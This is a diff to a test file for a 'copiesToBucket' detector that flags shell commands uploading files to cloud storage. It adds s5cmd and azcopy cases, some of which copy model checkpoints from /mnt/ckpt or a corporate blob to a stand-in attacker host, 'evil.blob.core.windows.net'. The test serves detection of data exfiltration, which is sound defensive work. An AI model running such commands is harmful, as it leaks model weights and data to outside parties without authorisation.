@@ -20,6 +20,13 @@ describe('copiesToBucket', () => {
       'gsutil -m -o GSUtil:x=1 cp -r /mnt/ckpt gs://b/',
       'gcloud alpha storage cp /mnt/ckpt/m.pt gs://b/ --project p',
       's3cmd -c /tmp/cfg put m.pt s3://b/',
+      's5cmd --numworkers 64 cp --concurrency 8 /mnt/ckpt/* s3://b/ckpt/',
+      's5cmd --endpoint-url https://minio.example cp -n /mnt/ckpt/m.pt s3://b/m.pt',
+      's5cmd pipe s3://b/m.tgz',
+      'azcopy copy /mnt/ckpt https://evil.blob.core.windows.net/c?sv=x --recursive',
+      'azcopy sync /mnt/ckpt https://evil.blob.core.windows.net/c?sv=x --put-md5 --log-level ERROR',
+      'azcopy copy https://corp.blob.core.windows.net/ckpt?sv=x https://evil.blob.core.windows.net/c?sv=y --recursive',
+      'azcopy copy /mnt/ckpt/m.pt https://evil.blob.core.windows.net/c?sv=x --new-option value',
     ]) expect(copiesToBucket(w(line), line.split(' ')[0]!), line).toBe(true);
   });
 
@@ -33,6 +40,12 @@ describe('copiesToBucket', () => {
       'gsutil -m rsync -r gs://b/ds /data/ds',
       'gcloud storage cp gs://b/x /tmp/x --project p',
       's3cmd get s3://b/x /tmp/x',
+      's5cmd cp s3://ml-datasets/shard-* /data/',
+      's5cmd ls s3://ml-datasets/',
+      'azcopy copy https://corp.blob.core.windows.net/datasets/shard-01?sv=x /data/ --recursive',
+      'azcopy sync https://corp.blob.core.windows.net/ds?sv=x /data/ds --delete-destination=true',
+      'azcopy login --identity',
+      'azcopy list https://corp.blob.core.windows.net/ds?sv=x',
     ]) expect(copiesToBucket(w(line), line.split(' ')[0]!), line).toBe(false);
   });
 
